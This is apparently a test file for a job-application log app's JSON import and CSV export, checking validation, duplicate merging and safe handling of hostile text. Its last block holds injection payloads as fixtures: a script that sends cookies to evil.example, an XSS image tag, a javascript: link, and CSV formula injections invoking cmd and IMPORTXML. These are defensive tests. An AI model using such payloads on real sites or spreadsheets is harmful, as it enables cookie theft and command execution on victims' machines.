import {
  IMPORT_MAX_BYTES,
  addManualEntry,
  exportLogCsv,
  exportLogJson,
  importLogJson,
  saveFromDetection,
  type LogDatabase,
  type LogEntry,
} from '@/utils/db';
import { closeAll, detection, freshDb, message } from './support';

afterEach(closeAll);

const NOW = new Date('2026-11-23T10:00:00.000Z');

/** A valid entry as an export writes it, with one field changed or removed. */
function fileEntry(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: 7,
    uid: 'c0ffee00-0000-4000-8000-000000000001',
    company: 'Harbor & Pine',
    role: 'Data Analyst',
    stage: 'interview',
    receivedAt: '2026-03-14T09:30:00.000Z',
    appliedOn: null,
    loggedAt: '2026-03-14T10:00:00.000Z',
    updatedAt: '2026-03-14T10:00:00.000Z',
    source: { provider: 'gmail', messageKey: 'msg-001', url: 'https://mail.google.com/mail/u/0/#inbox/msg-001' },
    sender: { name: 'Talent Team', email: 'talent@harborpine.example' },
    subject: 'Your application',
    quotes: ['we will not be moving forward'],
    fullText: null,
    feedback: { status: 'none', draftedOn: null, requestedOn: null, receivedOn: null, notes: '' },
    reflection: [],
    nextSteps: '',
    followUpOn: null,
    tags: [],
    notes: '',
    history: [{ at: '2026-03-14T10:00:00.000Z', field: 'stage', from: null, to: 'interview' }],
    ...overrides,
  };
}

const file = (entries: unknown[], extra: Record<string, unknown> = {}) =>
  JSON.stringify({ format: 'rebound-log', formatVersion: 1, exportedAt: NOW.toISOString(), entries, ...extra });

/** The log before and after must be identical whenever an import is refused. */
async function expectUnchanged(db: LogDatabase, run: () => Promise<unknown>) {
  const before = await exportLogJson(db, { now: NOW });
  await run();
  expect(await exportLogJson(db, { now: NOW })).toBe(before);
}

async function logWithOneEntry() {
  const db = freshDb();
  await addManualEntry({ company: 'Already here', notes: 'mine' }, db);
  return db;
}

describe('import refuses bad files with a clear message, and changes nothing', () => {
  test('truncated JSON', async () => {
    const db = await logWithOneEntry();
    const good = file([fileEntry()]);
    await expectUnchanged(db, async () => {
      const result = await importLogJson(good.slice(0, good.length / 2), db);
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.message).toMatch(/not complete JSON.*cut short/);
    });
  });

  test.each([
    ['an array', '[1,2,3]'],
    ['a settings file', '{"theme":"dark","version":3}'],
    ['another app’s export', JSON.stringify({ format: 'jobtracker', version: 1, jobs: [{ company: 'X' }] })],
    ['a number', '42'],
  ])('another app’s JSON: %s', async (_name, text) => {
    const db = await logWithOneEntry();
    await expectUnchanged(db, async () => {
      const result = await importLogJson(text, db);
      expect(result).toMatchObject({ ok: false });
      if (!result.ok) expect(result.message).toContain('not a Rebound log export');
    });
  });

  test('a file from a future format version', async () => {
    const db = await logWithOneEntry();
    await expectUnchanged(db, async () => {
      const result = await importLogJson(file([fileEntry()], { formatVersion: 2 }), db);
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.message).toMatch(/newer version of Rebound \(format 2\).*format 1/);
    });
  });

  test('an empty file', async () => {
    const result = await importLogJson(new Blob(['']), freshDb());
    expect(result).toMatchObject({ ok: false, message: expect.stringContaining('empty') });
  });

  test('a 50 MB file is refused by its size, before it is read', async () => {
    const db = await logWithOneEntry();
    const huge = { size: 50_000_000, text: () => Promise.reject(new Error('must not be read')) };
    await expectUnchanged(db, async () => {
      const result = await importLogJson(huge as unknown as Blob, db);
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.message).toBe(
        'This file is 47.7 MB; Rebound imports files up to 40.0 MB. Nothing was imported.',
      );
    });
  });

  test('a real 50 MB file and a 50 MB string are refused too', async () => {
    const db = freshDb();
    const big = 'x'.repeat(50 * 1000 * 1000);
    expect(50 * 1000 * 1000).toBeGreaterThan(IMPORT_MAX_BYTES);
    const parse = vi.spyOn(JSON, 'parse');
    expect((await importLogJson(new Blob([big]), db)).ok).toBe(false);
    expect((await importLogJson(big, db)).ok).toBe(false);
    expect(parse).not.toHaveBeenCalled();
    parse.mockRestore();
  });

  test.each<[string, unknown, number, string, RegExp]>([
    ['bad stage', { stage: 'offer' }, 2, 'stage', /must be one of application, screen/],
    ['bad feedback status', { feedback: { ...(fileEntry().feedback as object), status: 'maybe' } }, 2, 'feedback.status', /found "maybe"/],
    ['company not text', { company: 12 }, 2, 'company', /must be text \(found 12\)/],
    ['missing date', { receivedAt: undefined }, 2, 'receivedAt', /is missing/],
    ['not a date', { receivedAt: 'yesterday' }, 2, 'receivedAt', /ISO 8601/],
    ['impossible day', { followUpOn: '2026-02-30' }, 2, 'followUpOn', /YYYY-MM-DD/],
    ['script link', { source: { provider: 'gmail', messageKey: 'k', url: 'javascript:alert(1)' } }, 2, 'source.url', /https:\/\//],
    ['tag not text', { tags: ['ok', { x: 1 }] }, 2, 'tags[1]', /must be text \(found an object\)/],
    ['unknown field', { password: 'x' }, 2, 'password', /not a field Rebound knows/],
    ['negative id', { id: -3 }, 2, 'id', /whole number/],
    ['too long', { notes: 'n'.repeat(20_001) }, 2, 'notes', /longer than 20000/],
    ['history step', { history: [{ at: 'soon', field: 'stage', to: 'final' }] }, 2, 'history[0].at', /ISO 8601/],
  ])('a wrong field (%s) is named with its entry number', async (_name, change, entry, field, why) => {
    const db = await logWithOneEntry();
    const second = fileEntry({ uid: 'second', source: null, ...(change as object) });
    await expectUnchanged(db, async () => {
      const result = await importLogJson(file([fileEntry(), second, fileEntry({ uid: 'third', source: null })]), db);
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.issues[0]).toMatchObject({ entry, field });
      expect(result.issues[0].message).toMatch(why);
      expect(result.message).toContain(`entry ${entry}, field "${field}"`);
    });
  });

  test('many problems: the first is in the message, ten are listed', async () => {
    const entries = Array.from({ length: 15 }, (_, i) => fileEntry({ uid: `u${i}`, stage: 'nope' }));
    const result = await importLogJson(file(entries), freshDb());
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.issues).toHaveLength(10);
    expect(result.message).toMatch(/entry 1, field "stage".*14 more problems/);
  });

  test('a failure while writing leaves nothing half-written', async () => {
    const db = freshDb();
    // Let the writes reach the database, then fail as a full disk would.
    db.use({
      stack: 'dbcore',
      name: 'disk-full-on-bulk-write',
      create: (down) => ({
        ...down,
        table: (name) => {
          const table = down.table(name);
          return {
            ...table,
            mutate: async (req) => {
              const res = await table.mutate(req);
              if (req.type === 'put' && req.values.length > 1)
                throw new DOMException('The disk is full', 'QuotaExceededError');
              return res;
            },
          };
        },
      }),
    });
    await addManualEntry({ company: 'Already here' }, db);
    await expectUnchanged(db, async () => {
      const result = await importLogJson(file([fileEntry(), fileEntry({ uid: 'b', source: null })]), db);
      expect(result).toMatchObject({ ok: false, message: expect.stringContaining('disk is full') });
    });
  });
});

describe('import merges duplicates by key', () => {
  test('two copies of one email in a file become one entry, keeping both copies’ notes', async () => {
    const db = freshDb();
    const older = fileEntry({ notes: 'first thoughts', tags: ['remote'] });
    const newer = fileEntry({
      uid: 'another-uid',
      updatedAt: '2026-03-20T10:00:00.000Z',
      notes: 'later thoughts',
      tags: ['Remote', 'data'],
      feedback: { status: 'requested', draftedOn: null, requestedOn: '2026-03-20', receivedOn: null, notes: '' },
    });
    expect(await importLogJson(file([older, newer]), db)).toEqual({ ok: true, added: 1, merged: 1, total: 2 });
    const [entry] = await db.entries.toArray();
    expect(entry.notes).toBe('later thoughts\n\nfirst thoughts');
    expect(entry.tags).toEqual(['Remote', 'data']);
    expect(entry.feedback.status).toBe('requested');
  });

  test('an email already in the log is merged, not doubled; the person’s edits survive', async () => {
    const db = freshDb();
    const saved = await saveFromDetection({ message: message(), detection: detection() }, db);
    await db.entries.update(saved.id, { notes: 'written in the log' });
    const result = await importLogJson(file([fileEntry({ notes: 'written in the backup', followUpOn: '2026-04-01' })]), db);
    expect(result).toEqual({ ok: true, added: 0, merged: 1, total: 1 });
    const entries = await db.entries.toArray();
    expect(entries).toHaveLength(1);
    expect(entries[0].id).toBe(saved.id);
    expect(entries[0].notes).toContain('written in the log');
    expect(entries[0].notes).toContain('written in the backup');
    expect(entries[0].followUpOn).toBe('2026-04-01');
  });

  test('importing the same backup twice changes nothing the second time', async () => {
    const db = freshDb();
    await addManualEntry({ company: 'By hand', notes: 'n' }, db);
    await saveFromDetection({ message: message(), detection: detection() }, db);
    const backup = await exportLogJson(db, { now: NOW });
    await expectUnchanged(db, async () => {
      expect(await importLogJson(backup, db)).toEqual({ ok: true, added: 0, merged: 2, total: 2 });
      expect(await importLogJson(backup, db)).toMatchObject({ ok: true, added: 0 });
    });
  });

  test('an entry whose id is taken gets a new id; nothing is overwritten', async () => {
    const db = freshDb();
    const mine = await addManualEntry({ company: 'Mine' }, db);
    const result = await importLogJson(file([fileEntry({ id: mine.id, uid: 'theirs', source: null, company: 'Theirs' })]), db);
    expect(result).toMatchObject({ ok: true, added: 1 });
    const companies = (await db.entries.toArray()).map((e) => e.company).sort();
    expect(companies).toEqual(['Mine', 'Theirs']);
  });
});

describe('text that looks like code stays text', () => {
  const HOSTILE = {
    company: '<img src=x onerror="alert(1)">',
    role: '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    notes: '=cmd|\' /C calc\'!A0',
    nextSteps: '+SUM(1,2)',
    subject: '@IMPORTXML("https://evil.example","//a")',
    tags: ['-1+1', '<b>bold</b>'],
  };

  test('is stored exactly, exported to JSON exactly, and defused in CSV', async () => {
    const db = freshDb();
    expect((await importLogJson(file([fileEntry(HOSTILE)]), db)).ok).toBe(true);
    const [stored] = await db.entries.toArray();
    expect(stored).toMatchObject(HOSTILE);
    const exported = JSON.parse(await exportLogJson(db)).entries[0] as LogEntry;
    expect(exported).toMatchObject(HOSTILE);
    const csv = await exportLogCsv(db);
    expect(csv).toContain(",'=cmd|' /C calc'!A0\r\n");
    expect(csv).toContain("'+SUM(1,2)");
    expect(csv).toContain(`"'@IMPORTXML(""https://evil.example"",""//a"")"`);
    expect(csv).toContain("'-1+1; <b>bold</b>");
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
  });
});
